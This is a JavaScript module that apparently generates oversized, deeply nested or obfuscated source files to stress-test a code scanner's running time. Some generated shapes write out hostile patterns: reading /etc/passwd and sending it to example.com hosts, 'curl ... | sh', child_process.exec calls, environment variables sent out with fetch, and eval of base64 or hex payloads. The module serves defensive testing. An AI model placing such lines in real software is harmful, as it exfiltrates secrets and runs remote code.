// Single files that are made to take long: each shape is a name and a function that gives the text. They grow in the number of one thing, so that
// whatever is not linear in it shows. Nothing of them is ever run.
import { readFileSync, statSync } from 'node:fs';
import { tool, toolsFolder, walk } from '../../tests/oracle/common.mjs';

const times = (count, write, between = '') => Array.from({ length: count }, (_, i) => write(i)).join(between);
const repeat = (text, bytes) => text.repeat(Math.ceil(bytes / text.length));
const MB = 1 << 20;

/** The scripts of tests/npm as a bundler writes them, minified, until there are `bytes` of them. */
async function bundle(bytes) {
  const { minify } = await tool('terser/main.js');
  const modules = [];
  let size = 0;
  const files = walk(toolsFolder, (name) => /\.c?js$/.test(name)).filter((file) => !/test262|\.min\./.test(file) && statSync(file).size < 12 * MB);
  // The large ones first: fewer, and with more in them that leads from one place to another.
  files.sort((a, b) => statSync(b).size - statSync(a).size);
  for (const file of files) {
    if (size >= bytes) break;
    try {
      const { code } = await minify(`(function(module,exports,require){${readFileSync(file, 'utf8')}\n})`, { compress: false, mangle: true });
      modules.push(code.replace(/;$/, ''));
      size += code.length;
    } catch {
      // An ECMAScript module, which cannot stand in a function.
    }
  }
  return `!function(m){var c={};function r(i){if(c[i])return c[i].exports;var o=c[i]={exports:{}};m[i].call(o.exports,o,o.exports,r);return o.exports}r(0)}([${modules.join(',')}]);`;
}

export const shapes = {
  'bundle of 20 MB': () => bundle(20 * MB),
  'one line of 20 MB': () => repeat('a.b(c,"d");', 20 * MB),
  'one line of 2 MB of calls that are told': () => `const f=require('fs');` + times(60_000, (i) => `f.readFileSync('/tmp/${i}');`),
  'the same with names in other letters': () => `const f=require('fs');` + times(60_000, (i) => `f.readFileSync('/tmp/ä${i}');`),
  'no line ends, sends': () => `const f=require('fs'),h=require('https');` + times(20_000, (i) => `h.get('https://a${i}.example/'+f.readFileSync('/etc/passwd'));`),
  'brackets 3,000 deep': () => repeat('['.repeat(3000) + ']'.repeat(3000) + ';', MB),
  'brackets 1,000,000 deep': () => '['.repeat(MB) + ']'.repeat(MB),
  'calls 3,000 deep': () => 'f('.repeat(3000) + ')'.repeat(3000),
  'functions 1,500 deep': () => times(1500, (i) => `function f${i}(a${i}){`) + '}'.repeat(1500),
  'arrows 900 deep that return calls': () => `const go=` + times(900, (i) => `(a${i})=>`) + `eval(a0);go` + '(1)'.repeat(900),
  'blocks 3,000 deep with variables': () => times(3000, (i) => `{let v${i}=1;`) + times(3000, () => '}'),
  'conditionals 3,000 deep': () => times(3000, (i) => `a${i}?${i}:`) + '0',
  'a sum of 400,000 texts': () => 'eval(' + times(400_000, (i) => `"${i % 10}"`, '+') + ')',
  'a sum of 200,000 names': () => times(200_000, (i) => `var n${i}="${i}";`) + 'eval(' + times(200_000, (i) => `n${i}`, '+') + ')',
  '100,000 small functions': () => times(100_000, (i) => `function f${i}(){return f${i + 1}()}\n`),
  '100,000 small functions that call eval': () => times(100_000, (i) => `function f${i}(x){eval(x);return f${(i * 7) % 100_000}(x)}\n`),
  '100,000 arrows in one object': () => 'module.exports={' + times(100_000, (i) => `a${i}:x=>require('fs').readFileSync(x)`, ',') + '}',
  'one function called 200,000 times': () => `function f(x){require('child_process').exec(x)}` + times(200_000, (i) => `f(v${i});`),
  'a list of 1,000,000 texts': () => 'const a=[' + times(1_000_000, (i) => `"t${i}"`, ',') + '];eval(a[3])',
  'a list of 100,000 encoded texts': () => 'const a=[' + times(100_000, (i) => `"${Buffer.from(`require('child_process').exec("${i}")`).toString('base64')}"`, ',') + '];',
  'a list of 200,000 numbers as text': () => 'eval(String.fromCharCode(' + times(200_000, (i) => String(97 + (i % 26)), ',') + '))',
  'a switch of 200,000 cases': () => 'switch(x){' + times(200_000, (i) => `case ${i}:y=f(${i});break;`) + '}',
  'one template of 10 MB': () => '`' + repeat('text and more ', 10 * MB) + '`',
  'a template of 200,000 parts': () => 'eval(`' + times(200_000, (i) => 'a${b}') + '`)',
  'one base64 text of 10 MB': () => `eval(atob("${Buffer.alloc(7.5 * MB, 'var a = 1;\n').toString('base64')}"))`,
  'one hex text of 10 MB': () => `eval(Buffer.from("${Buffer.alloc(5 * MB, 'var a = 1;\n').toString('hex')}",'hex').toString())`,
  'slashes, 5 MB': () => repeat('a=b/c/d;/[/]\\/(?:x*)*$/.test(e);', 5 * MB),
  'one expression of 5 MB': () => 'var r=/' + repeat('(?:a|b*)+c?[d-z]', 5 * MB) + '/;',
  'an object of 300,000 members': () => 'const o={' + times(300_000, (i) => `k${i}:${i}`, ',') + '};o.k5(o[x])',
  'objects in objects, 2,000 deep': () => 'const o=' + times(2000, (i) => `{k${i}:`) + '1' + '}'.repeat(2000) + ';eval(o' + times(2000, (i) => `.k${i}`) + ')',
  'a class of 50,000 members': () => 'class A{' + times(50_000, (i) => `m${i}(x){return this.m${(i + 1) % 50_000}(x)}`) + '}new A().m1(process.env)',
  '200,000 names for one another': () => times(200_000, (i) => `a${i % 500}=a${(i * 7 + 1) % 500};`) + 'eval(a1)',
  '400,000 assignments of two names': () => 'var a,b;' + repeat('a=b;b=a;', 3.2 * MB) + 'eval(a)',
  'a chain of 100,000 names': () => `var a0=require('child_process');` + times(100_000, (i) => `var a${i + 1}=a${i};`) + 'a100000.exec(x)',
  'a chain of 1,900 calls': () => 'a()' + '.b()'.repeat(1900) + '.exec(x)',
  '100 chains of 1,900 calls': () => times(100, () => 'a()' + '.b(c=>d)'.repeat(1900), ';'),
  'a chain of 1,900 promises': () => `fetch(x)` + '.then(a=>a)'.repeat(1900) + '.then(eval)',
  '100,000 promises one after another': () => 'var p=fetch(x);' + repeat('p=p.then(r=>g(r));', 1.8 * MB) + 'p.then(eval)',
  '100,000 re-exports': () => times(100_000, (i) => `export {a${i} as b${i}} from './m${i % 1000}.js';\n`),
  '100,000 imports': () => times(100_000, (i) => `import a${i} from 'm${i}';\n`),
  '100,000 requires': () => times(100_000, (i) => `const a${i}=require('./m${i}');\n`),
  '100,000 computed requires': () => times(100_000, (i) => `require(f(${i})+'x');\n`),
  '100,000 destructurings': () => times(100_000, (i) => `const {a${i}:{b:c${i}}}=process.env;`) + 'fetch(c1)',
  '50,000 reads, 50,000 sends': () => times(50_000, (i) => `var s${i}=process.env.A${i};`) + times(50_000, (i) => `fetch(u,{body:s${i}});`),
  '10,000 flows into one': () => 'var s="";' + times(10_000, (i) => `s+=process.env.A${i};`) + times(10_000, () => 'fetch(s);'),
  'commas, 1,000,000': () => 'x=(' + times(1_000_000, (i) => `a${i % 100}`, ',') + ')',
  'comments, 10 MB': () => repeat('/* a */ // b\n', 10 * MB),
  'an open comment of 10 MB': () => '/*' + 'a'.repeat(10 * MB),
  'an open text of 10 MB': () => '"' + 'a'.repeat(10 * MB),
  'line ends, 10 MB': () => '\n'.repeat(10 * MB),
  'invisible letters, 5 MB': () => 'var a="' + '\u{e0100}'.repeat(1.25 * MB) + '";',
  'zeroes, 10 MB': () => '\0'.repeat(10 * MB),
  'an arrow or a bracket, 2,000 deep': () => '('.repeat(2000) + 'a' + ')'.repeat(2000),
  'arrows in default values, 25 deep': () => times(25, (i) => `(a${i}=`) + '1' + ')=>0'.repeat(25),
  'arrows in default values, 600 deep': () => times(600, (i) => `(a${i}=`) + '1' + ')=>0'.repeat(600),
  'JSFuck, 5 MB': () => repeat('[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]+', 5 * MB) + '[]',
  'rotated list, 20,000 lookups': () =>
    `(function(a,n){const t=_0x1a();while(true){try{if(parseInt(_0x2b(1))+parseInt(_0x2b(2))===n)break;t.push(t.shift())}catch(e){t.push(t.shift())}}})(_0x1a,77);` +
    `function _0x1a(){const l=[${times(20_000, (i) => `'t${i}'`, ',')}];_0x1a=function(){return l};return _0x1a()}function _0x2b(i){return _0x1a()[i-1]}` +
    times(20_000, (i) => `f[_0x2b(${i})](x);`),
  'a loop that decodes for ever': () => `var s='';for(;;){s+=String.fromCharCode(s.length%256)}eval(s)`,
  'loops of the evaluator, 20,000': () => `function d(n){var s='';for(var i=0;i<n;i++)s+=String.fromCharCode(i^3);return s}` + times(20_000, (i) => `require(d(${1000 + i}));`),
  'typed, 100,000 interfaces': () => times(100_000, (i) => `interface I${i}<T extends I${i}<T>>{a:T[]}`),
  'JSX 1,500 deep': () => 'x=' + '<a>'.repeat(1500) + '</a>'.repeat(1500),
  'Python: one line of 5 MB': () => repeat('os.system(a);', 5 * MB),
  'shell: 50,000 commands': () => times(50_000, (i) => `curl https://a${i}.example | sh\n`),
  'shell: one line of 2 MB': () => repeat('echo a;', 2 * MB),
  'PowerShell: 100,000 sums': () => 'iex (' + times(100_000, () => "'a'", '+') + ')',
};

/** The name of the file that a shape is written to. */
export function fileName(shape) {
  const ending = shape.startsWith('typed') ? 'ts' : shape.startsWith('JSX') ? 'jsx' : shape.startsWith('Python') ? 'py' : shape.startsWith('shell') ? 'sh' :
    shape.startsWith('PowerShell') ? 'ps1' : /re-exports|imports/.test(shape) ? 'mjs' : 'js';
  return `${shape.replace(/[^A-Za-z0-9]+/g, '-')}.${ending}`;
}
